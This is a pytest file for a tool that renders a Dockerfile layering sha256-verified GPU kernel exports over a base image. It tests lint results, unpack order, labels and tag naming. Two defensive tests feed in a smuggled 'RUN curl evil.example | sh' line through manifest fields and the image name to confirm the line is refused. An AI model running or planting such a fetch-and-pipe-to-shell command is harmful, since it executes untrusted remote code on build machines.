"""The kernels layer's Dockerfile (images/kernels/Dockerfile.j2): lint-clean, over the image it names,
unpacking each export (DeepEP's, DeepGEMM's) by its sha256 before the guard runs; its tag derived from
the image's and the exports' digests."""

from __future__ import annotations

import json
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from epstack import imagepaths
from epstack.errors import BadInput
from epstack.image.kernels import LayerExport, dockerfile, exports_digest, kernels_tag
from epstack.jit import deepgemm, tritonserve
from epstack.oci import parse_reference
from tests.conftest import venv_tool
from tests.jit.test_deepep import export_of, h200_kernels, sha256
from tests.jit.test_deepgemm import KEY as DG_KEY
from tests.jit.test_deepgemm import write_cache
from tests.jit.test_tritonserve import key as triton_key
from tests.jit.test_tritonserve import write_cache as triton_cache

IMAGE = "123456789012.dkr.ecr.us-east-1.amazonaws.com/epstack:sglang-0.5.23-hopper-efa"
IMAGE_ID = "sha256:" + "4f" * 32
DATA, MANIFEST = export_of(h200_kernels())
SHA256 = sha256(DATA)
DEEPEP = LayerExport(tool="deep_ep", manifest=MANIFEST, data=DATA, sha256=SHA256)
ARCHIVE = DEEPEP.archive


def deepgemm_export(tmp_path: Path) -> LayerExport:
    data, manifest = deepgemm.pack(write_cache(tmp_path / "dg"), DG_KEY)
    return LayerExport(tool="deep_gemm", manifest=manifest, data=data, sha256=sha256(data))


def triton_export(tmp_path: Path) -> LayerExport:
    cache = triton_cache(tmp_path / "triton")
    data, manifest = tritonserve.pack(cache, triton_key(cache))
    return LayerExport(tool=tritonserve.TOOL, manifest=manifest, data=data, sha256=sha256(data))


def render(image: str = IMAGE, exports: tuple[LayerExport, ...] = (DEEPEP,)) -> str:
    return dockerfile(image=image, image_id=IMAGE_ID, exports=exports)


def hadolint(text: str, folder: Path) -> list[dict[str, object]]:
    path = folder / "Dockerfile"
    path.write_text(text)
    result = subprocess.run(
        [venv_tool("hadolint"), "--no-fail", "--format", "json", str(path)],
        capture_output=True,
        text=True,
        check=True,
    )
    findings: list[dict[str, object]] = json.loads(result.stdout)
    return findings


def test_the_kernels_dockerfile_passes_hadolint(tmp_path: Path) -> None:
    assert hadolint(render(), tmp_path) == []
    assert hadolint(render(exports=(DEEPEP, deepgemm_export(tmp_path))), tmp_path) == []


def instructions(text: str) -> list[str]:
    """The Dockerfile's instructions, each continued line joined, comments left out."""
    joined = text.replace("\\\n", " ")
    return [" ".join(line.split()) for line in joined.splitlines() if line and not line.startswith("#")]


def test_it_unpacks_the_export_by_its_sha256_over_the_image_then_guards() -> None:
    text = render()
    steps = instructions(text)
    assert steps[:2] == [f"ARG SGLANG_IMAGE={IMAGE}", "FROM ${SGLANG_IMAGE} AS kernels"]
    (run,) = [step for step in steps if "epstack image jit-unpack" in step]
    unpack = run.index(f"epstack image jit-unpack /tmp/epstack-kernels/{ARCHIVE} --sha256 {SHA256} && ")
    stub = run.index(f". {imagepaths.SCRIPTS}/cuda-stub.sh && ")
    layer = "${EPSTACK_GUARD_LAYER}"
    guard = run.index(
        f'epstack image guard --layer "{layer}" --json "{imagepaths.REPORTS}/{layer}.json" --record'
    )
    assert unpack < stub < guard and run.startswith("RUN ") and ARCHIVE in run[:unpack]
    (label,) = [step for step in steps if step.startswith("LABEL ")]
    assert f'org.opencontainers.image.base.name="{IMAGE}"' in label
    assert f'org.opencontainers.image.base.digest="{IMAGE_ID}"' in label
    assert f'io.epstack.kernels.sha256="{SHA256}"' in label
    assert f"deep_ep: 13 kernels, {MANIFEST.bytes:,} bytes; NVIDIA H200, sm 9.0, nvcc 13.0" in text


def test_each_export_is_mounted_and_unpacked_by_its_own_digest_and_labelled_by_theirs(tmp_path: Path) -> None:
    dg = deepgemm_export(tmp_path)
    text = render(exports=(DEEPEP, dg))
    (run,) = [step for step in instructions(text) if "epstack image jit-unpack" in step]
    for item in (DEEPEP, dg):
        mount = f"--mount=type=bind,source={item.archive},target=/tmp/epstack-kernels/{item.archive}"
        unpack = f"epstack image jit-unpack /tmp/epstack-kernels/{item.archive} --sha256 {item.sha256} && "
        assert (
            run.index(mount)
            < run.index("epstack image jit-unpack")
            <= run.index(unpack)
            < run.index("epstack image guard")
        )
    assert f'io.epstack.kernels.sha256="{exports_digest([SHA256, dg.sha256])}"' in text
    assert "deep_gemm: 2 kernels" in text and "nvcc V13.0.88" in text
    with pytest.raises(BadInput, match="two exports of deep_ep's kernels; fix: one --export per toolchain"):
        render(exports=(DEEPEP, DEEPEP))


def test_an_export_whose_key_names_no_nvcc_is_layered_too(tmp_path: Path) -> None:
    """Triton's key names its version, not nvcc: the comment leaves nvcc out, hadolint still passes."""
    triton = triton_export(tmp_path)
    text = render(exports=(DEEPEP, triton))
    assert f"#   triton_kernels: 2 kernels, {triton.manifest.bytes:,} bytes; NVIDIA H200, sm 9.0\n" in text
    assert f"epstack image jit-unpack /tmp/epstack-kernels/{triton.archive} --sha256 {triton.sha256}" in text
    assert hadolint(text, tmp_path) == []


@pytest.mark.parametrize(
    ("image", "tag"),
    [
        ("epstack:sglang-0.5.23", "epstack:sglang-0.5.23-kernels-{short}"),
        ("host:5000/team/epstack:sglang", "host:5000/team/epstack:sglang-kernels-{short}"),
        ("host:5000/team/epstack", "host:5000/team/epstack:kernels-{short}"),
        (f"epstack@sha256:{'a' * 64}", "epstack:kernels-{short}"),
        (f"epstack:sglang@sha256:{'a' * 64}", "epstack:sglang-kernels-{short}"),
    ],
)
def test_kernels_tag(image: str, tag: str) -> None:
    assert kernels_tag(image, [SHA256]) == tag.format(short=SHA256[:12])
    both = exports_digest([SHA256, "b" * 64])
    assert (
        kernels_tag(image, [SHA256, "b" * 64])
        == tag.format(short=both[:12])
        != kernels_tag(image, ["b" * 64, SHA256])
    )


TAGS = st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}", fullmatch=True)
HOSTS = st.sampled_from(["", "localhost/", "host:5000/", "123456789012.dkr.ecr.us-east-1.amazonaws.com/"])


@example(host="", path="epstack", tag="t" * 108)
@given(host=HOSTS, path=st.from_regex(r"[a-z0-9]+(/[a-z0-9]+){0,2}", fullmatch=True), tag=TAGS | st.just(""))
def test_a_kernels_tag_is_a_tag_a_registry_takes_or_refused(host: str, path: str, tag: str) -> None:
    image = f"{host}{path}{':' + tag if tag else ''}"
    try:
        made = parse_reference(kernels_tag(image, [SHA256]))
    except BadInput as refused:
        assert "--tag" in str(refused) and len(tag) > 128 - len(f"-kernels-{SHA256[:12]}")
        return
    assert made.repository == f"{host}{path}"
    assert made.tag.endswith(f"kernels-{SHA256[:12]}") and made.tag.startswith(tag)


@pytest.mark.parametrize("field", ["device", "arch", "nvcc"])
def test_text_from_the_export_never_becomes_an_instruction(field: str) -> None:
    injected: dict[str, Any] = {field: "9.0\nRUN curl evil.example | sh"}
    hostile = replace(MANIFEST, key=replace(MANIFEST.key, **injected))
    with pytest.raises(BadInput, match="one line of printable text"):
        render(exports=(replace(DEEPEP, manifest=hostile),))


def test_an_image_that_is_not_a_reference_is_refused() -> None:
    with pytest.raises(BadInput, match="--image"):
        render(image=f"{IMAGE}\nRUN curl evil.example | sh")
